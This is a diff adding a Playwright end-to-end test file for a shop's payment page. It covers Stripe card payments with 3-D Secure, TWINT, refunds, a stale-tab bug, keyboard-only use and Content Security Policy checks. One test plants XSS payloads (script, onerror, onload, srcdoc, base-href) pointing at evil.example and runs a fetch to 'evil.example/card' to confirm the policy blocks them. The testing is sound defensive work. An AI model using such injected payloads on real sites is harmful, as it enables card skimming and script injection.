@@ -1,0 +1,269 @@
+"""Two browsers, one purchase, Stripe's real SDK and its double: form, 3-D Secure, TWINT, refunds;
+and a pay page on which nothing runs but Stripe's script and ours.
+"""
+
+import re
+from typing import Any
+
+import httpx
+import pytest
+from playwright.async_api import Browser, Route, expect
+
+from tests.e2e.axe import grave
+from tests.e2e.browsers import person
+from tests.e2e.houses import MoneyHouse
+from tests.e2e.people import Advisor, Shopper
+from tests.e2e.test_purchase import TAMPER
+from tests.e2e.tills import (
+    CHECKED,
+    NO_FUNDS,
+    PAYS,
+    WATCH,
+    Till,
+    give_back,
+    reports,
+    same_order,
+    stays_with_the_shop,
+    till,
+    to_the_till,
+)
+from tests.house import LONG
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+LOCALES = {"en": "en-GB", "de": "de-CH"}
+PEOPLE = [("en", False), ("de", True), ("en", True), ("de", False)]
+WAYS = ["stripe/card", "mollie/card", "stripe/twint"]
+NOTHING_CHARGED = re.compile("nothing was charged|nichts belastet", re.IGNORECASE)
+EVIL = "https://evil.example/x.js"
+PLANTED = f"""
+<script src="{EVIL}"></script>
+<script>window.ran = true</script>
+<img src="x" onerror="window.ran = true">
+<svg onload="window.ran = true"></svg>
+<iframe srcdoc="<script>parent.ran = true</script>"></iframe>
+<iframe src="https://evil.example/frame"></iframe>
+<link rel="stylesheet" href="https://evil.example/x.css">
+<img src="https://evil.example/seen.png">
+<base href="https://evil.example/">
+"""
+BLOCKED = (
+    "script-src-elem",
+    "script-src-attr",
+    "style-src-elem",
+    "frame-src",
+    "img-src",
+    "connect-src",
+    "base-uri",
+)
+"""What the page's policy must have stopped of it."""
+
+
+async def intents(money: MoneyHouse, session_id: str) -> list[dict[str, Any]]:
+    """Return what Stripe has of a session."""
+    async with httpx.AsyncClient() as client:
+        known = await client.get(f"{money.company('stripe').url}/_double/state")
+    return [one for one in known.json() if session_id in one["metadata"].values()]
+
+
+@pytest.mark.parametrize(("lang", "phone"), PEOPLE if LONG else PEOPLE[:2])
+async def test_declined_checked_and_paid_by_card(
+    browser: Browser, money: MoneyHouse, mira: Advisor, lang: str, phone: bool
+) -> None:
+    context = await person(browser, phone=phone, locale=LOCALES[lang])
+    shopper = Shopper(await context.new_page(), money)
+    page = await to_the_till(shopper, mira, lang)
+    await expect(page.page.locator("theke-pay fieldset")).to_contain_text("(stripe)")
+    await page.choose("stripe/card")
+    await page.order()
+    form = page.page.frame_locator('theke-pay iframe[name^="__privateStripeFrame"]')
+    await expect(form.get_by_role("alert")).to_have_text(re.compile("incomplete|unvollständig"))
+    assert await grave(page.page) == []
+    await page.shot(f"stripe-form-{lang}")
+    await page.card(NO_FUNDS)
+    await page.says(NOTHING_CHARGED)
+    await expect(mira.at("payment")).to_contain_text(re.compile("money|Geld|Guthaben"))
+    await page.shot(f"stripe-declined-{lang}")
+    await page.card(CHECKED)
+    await page.answer_check("fail")
+    await page.says(NOTHING_CHARGED)
+    await page.card(CHECKED)
+    await expect(page.page.locator('iframe[title="3D Secure"]')).to_be_visible()
+    await page.shot(f"stripe-check-{lang}")
+    await mira.shot(f"stripe-check-desk-{lang}")
+    await page.page.reload()
+    await page.answer_check("pass")
+    await page.reads(re.compile("Thank you|Danke"))
+    assert await grave(page.page) == []
+    await page.shot(f"stripe-paid-{lang}")
+    await mira.phase("completed")
+    session_id = (await shopper.seat())["session_id"] if not phone else ""
+    await page.back()
+    await same_order(shopper, mira)
+    found = await intents(money, session_id or (await shopper.seat())["session_id"])
+    assert [(one["status"], one["received"]) for one in found] == [
+        ("succeeded", found[0]["amount"])
+    ]
+    assert shopper.errors == page.errors == []
+    await context.close()
+
+
+async def test_twint_in_the_pay_window_with_the_call_staying(
+    browser: Browser, money: MoneyHouse, mira: Advisor
+) -> None:
+    context = await person(browser)
+    shopper = Shopper(await context.new_page(), money)
+    page = await to_the_till(shopper, mira)
+    await page.choose("stripe/twint")
+    await page.order()
+    await page.at_company("stripe")
+    await stays_with_the_shop(shopper.page, money.shop)
+    await shopper.shot("stripe-twint-panel-stays")
+    await page.press_at_company("fail")
+    await page.says(NOTHING_CHARGED)
+    await page.order()
+    await page.at_company("stripe")
+    await page.page.go_back()
+    await page.page.get_by_role("button", name="Go to the bank").click()
+    await page.at_company("stripe")
+    await page.press_at_company("pass")
+    await page.reads("Thank you, your order is placed")
+    await same_order(shopper, mira)
+    await give_back(money, shopper, "a1", "2.00")
+    for seat in (shopper, mira):
+        await expect(seat.at("payment")).to_contain_text("2.00")
+    (one,) = await intents(money, (await shopper.seat())["session_id"])
+    assert (one["received"], one["refunded"]) == (one["amount"], 200)
+    assert shopper.errors == page.errors == []
+    await context.close()
+
+
+async def test_a_second_tab_never_pays_the_old_amount(
+    browser: Browser, money: MoneyHouse, mira: Advisor
+) -> None:
+    """Bug by name: second tab pays the old amount."""
+    context = await person(browser)
+    shopper = Shopper(await context.new_page(), money)
+    deaf = re.compile(r"/v1/pay\?since=")
+
+    async def unheard(route: Route) -> None:
+        """The old tab hears nothing after it was opened."""
+
+    await context.route(deaf, unheard)
+    old = await to_the_till(shopper, mira)
+    await old.choose("stripe/card")
+    await old.type_card(PAYS)
+    answers: list[int] = []
+    await mira.line(TAMPER).get_by_test_id("line-more").click()
+    await shopper.at("look-again").click()
+    await shopper.approve()
+    old.page.on("response", lambda got: answers.append(got.status) if "start" in got.url else None)
+    await old.order()
+    await expect(old.page.locator("theke-pay .error")).not_to_be_empty()
+    assert answers
+    assert all(status >= 400 for status in answers)
+    session_id = (await shopper.seat())["session_id"]
+    assert await intents(money, session_id) == []
+    await context.unroute(deaf)
+    new = await till(shopper)
+    await new.choose("stripe/card")
+    await new.card(PAYS)
+    await new.reads("Thank you, your order is placed")
+    (one,) = await intents(money, session_id)
+    assert one["amount"] == one["received"]
+    await context.close()
+
+
+async def test_what_is_planted_on_the_pay_page_does_not_run(
+    browser: Browser, money: MoneyHouse, mira: Advisor
+) -> None:
+    context = await person(browser)
+    await context.add_init_script(WATCH)
+    asked: list[str] = []
+
+    async def planted(route: Route) -> None:
+        """Somebody between us and the shopper adds to the page, but not to its policy."""
+        answer = await route.fetch()
+        html = (await answer.text()).replace("</body>", f"{PLANTED}</body>")
+        await route.fulfill(response=answer, body=html)
+
+    async def evil(route: Route) -> None:
+        asked.append(route.request.url)
+        await route.fulfill(content_type="text/javascript", body="window.ran = true")
+
+    # A page that came from a test counts as one of the internet, which may not load from here.
+    await context.grant_permissions(["local-network-access"], origin=money.theke)
+    await context.route("**/pay/demo", planted)
+    await context.route("https://evil.example/**", evil)
+    shopper = Shopper(await context.new_page(), money)
+    page = await to_the_till(shopper, mira)
+    await page.choose("stripe/card")
+    await page.type_card(PAYS)
+    await page.page.evaluate(
+        "(src) => document.head.append(Object.assign(document.createElement('script'), {src}))",
+        EVIL,
+    )
+    await page.page.evaluate("fetch('https://evil.example/card').catch(() => 0)")
+    blocked = "window.reports.filter((one) => one.includes('evil.example')).length >= 6"
+    await page.page.wait_for_function(blocked)
+    assert asked == []
+    for frame in page.page.frames:
+        assert not await frame.evaluate("Boolean(window.ran)"), frame.url
+    told = " ".join(await page.page.evaluate("window.reports"))
+    for directive in BLOCKED:
+        assert directive in told, told
+    assert "stripe.localhost" not in told
+    await page.order()
+    await page.reads("Thank you, your order is placed")
+    await context.close()
+
+
+@pytest.mark.parametrize("way", WAYS if LONG else WAYS[:2])
+async def test_a_full_purchase_gives_no_report_of_any_policy(
+    browser: Browser, money: MoneyHouse, mira: Advisor, way: str
+) -> None:
+    context = await person(browser)
+    await context.add_init_script(WATCH)
+    shopper = Shopper(await context.new_page(), money)
+    page = await to_the_till(shopper, mira)
+    await page.choose(way)
+    if way == "stripe/card":
+        await page.card(CHECKED)
+        assert await reports(context) == []
+        await page.answer_check("pass")
+    else:
+        await page.order()
+        company = way.partition("/")[0]
+        await page.at_company(company)
+        await page.press_at_company("pass" if company == "stripe" else "paid")
+    await page.reads("Thank you, your order is placed")
+    await shopper.phase("completed")
+    assert await reports(context) == []
+    policy = (await page.page.request.get(page.page.url)).headers["content-security-policy"]
+    hosts = set(re.findall(r"https?://[^\s;]+", policy))
+    assert hosts == {money.company("stripe").browser_url}
+    assert "unsafe" not in policy
+    await context.close()
+
+
+async def test_by_keyboard_alone_with_stripes_form(
+    browser: Browser, money: MoneyHouse, mira: Advisor
+) -> None:
+    context = await person(browser)
+    shopper = Shopper(await context.new_page(), money)
+    page: Till = await to_the_till(shopper, mira)
+    await expect(page.page.locator('theke-pay input[value="stripe/card"]')).to_be_checked()
+    form = page.page.frame_locator('theke-pay iframe[name^="__privateStripeFrame"]')
+    await expect(form.locator("#number")).to_be_visible()
+    for text in ("", "", "", PAYS, "1239", "737"):
+        await page.page.keyboard.press("Tab")
+        if text:
+            await page.page.keyboard.type(text)
+    await page.page.keyboard.press("Tab")
+    while not await page.page.evaluate(
+        "document.querySelector('theke-pay').shadowRoot.activeElement?.matches('button.main')"
+    ):
+        await page.page.keyboard.press("Tab")
+    await page.page.keyboard.press("Enter")
+    await page.reads("Thank you, your order is placed")
+    await context.close()
